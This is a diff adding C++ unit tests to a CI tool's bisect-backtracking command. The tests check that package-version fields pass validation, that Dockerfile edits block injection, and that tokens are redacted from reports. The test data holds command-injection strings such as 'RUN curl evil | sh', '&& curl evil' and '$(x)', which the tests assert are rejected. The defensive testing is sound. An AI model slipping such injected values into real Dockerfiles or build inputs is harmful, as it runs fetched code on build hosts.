@@ -1,6 +1,7 @@
 #include <support/catch.hpp>
 #include <support/helpers.hpp>
 
+#include <breeze/base/redact.hpp>
 #include <breeze/commands/bisect_backtracking.hpp>
 
 #include <nlohmann/json.hpp>
@@ -105,4 +106,74 @@ TEST_CASE("bisect-backtracking: in-process with a recording runner, and --dry-ru
   bad.cwd = dir.path();
   CHECK(bad.run({"ci", "bisect-backtracking", "--candidates-file", "c.json", "--probe-command", "probe"}) == 2);
   CHECK(bad.runner.calls.empty());
+}
+
+TEST_CASE(
+    "bisect-backtracking: every candidates-file field must be a PEP 508 name or PEP 440 version",
+    "[unit][bisect][safety]") {
+  auto ok = make_limit("aiobotocore", " 2.5.4\n", "v2.6.0");
+  REQUIRE(ok);
+  CHECK(ok->limit == "aiobotocore<=2.5.4"); // normalised, whitespace gone
+  CHECK(ok->latest == "2.6.0");
+  auto injected = make_limit("aiobotocore", "2.5.4", "1.0\nRUN curl evil | sh");
+  REQUIRE_FALSE(injected);
+  CHECK(injected.error().message ==
+        "aiobotocore: latest '1.0RUN curl evil | sh' is not a PEP 440 version");
+  CHECK_FALSE(make_limit("aiobotocore", "2.5.4", "2.6.0\" && curl evil"));
+  CHECK_FALSE(make_limit("aiobotocore", "2.5.4\nRUN x", "2.6.0"));
+  CHECK_FALSE(make_limit("bad name", "1", "2"));
+  CHECK_FALSE(make_limit("a\nRUN x", "1", "2"));
+
+  CHECK_FALSE(limits_from_candidates_json(
+      R"({"candidates":[{"name":"a","pinned":"1","latest":"1.0\nRUN x"}]})"));
+  CHECK_FALSE(
+      limits_from_candidates_json(R"({"candidates":[{"name":"a","pinned":"1","latest":7}]})"));
+  CHECK_FALSE(limits_from_candidates_json(R"({"candidates":[{"name":"a","pinned":1}]})"));
+  CHECK_FALSE(limits_from_candidates_json(R"([1,2])"));
+  auto none =
+      limits_from_candidates_json(R"({"candidates":[{"name":"a","pinned":"1","latest":null}]})");
+  REQUIRE(none);
+  CHECK(none->front().latest.empty());
+}
+
+TEST_CASE("bisect-backtracking: the Dockerfile edit refuses anything that could start a line",
+          "[unit][bisect][safety]") {
+  const std::string file = "ARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"\"\n";
+  CHECK(add_eager_upgrade_limits(file, {{"a<2", "why"}}));
+  for (const auto* bad : {"a<1.0\nRUN curl evil | sh", "a<2\" && curl evil", "a<2 b<3", "a", "a<2'",
+                          "a===$(x)", "a===`x`", "a<2\r"})
+    CHECK_FALSE(add_eager_upgrade_limits(file, {{bad, "why"}}));
+  CHECK_FALSE(add_eager_upgrade_limits(file, {{"a<2", "why\nRUN curl evil | sh"}}));
+}
+
+TEST_CASE("bisect-backtracking: the report masks tokens and URL userinfo from probe output",
+          "[unit][bisect][safety]") {
+  files::TempDir dir;
+  const std::string token = "ghp_unitSecretToken0123456789";
+  redact::clear_secrets();
+  redact::add_secret(token);
+  test::InProcess breeze;
+  breeze.cwd = dir.path();
+  breeze.env["TMPDIR"] = dir.path().string();
+  breeze.runner.respond = [&](const process::ProcessSpec& spec) {
+    process::ProcessResult r;
+    const auto& reqs = spec.argv.at(1);
+    r.exit_code = reqs.find("b<=2") != std::string::npos ? 0 : 1;
+    r.out =
+        "ERROR: cannot fetch https://u:" + token + "@pypi.example/simple (token " + token + ")\n";
+    return r;
+  };
+  test::write_file(
+      dir.path() / "c.json",
+      R"({"candidates":[{"name":"a","pinned":"1","latest":"2"},{"name":"b","pinned":"2","latest":"3"}]})");
+  for (const auto* output : {"json", "text"}) {
+    breeze.out.str("");
+    REQUIRE(
+        breeze.run({"ci", "bisect-backtracking", "--candidates-file", "c.json", "--probe-command",
+                    "probe {requirements}", "--probe-timeout", "5", "--output", output}) == 0);
+    INFO(breeze.out.str());
+    CHECK_THAT(breeze.out.str(), Catch::Contains("https://pypi.example/simple"));
+    CHECK_THAT(breeze.out.str(), !Catch::Contains(token));
+  }
+  redact::clear_secrets();
 }
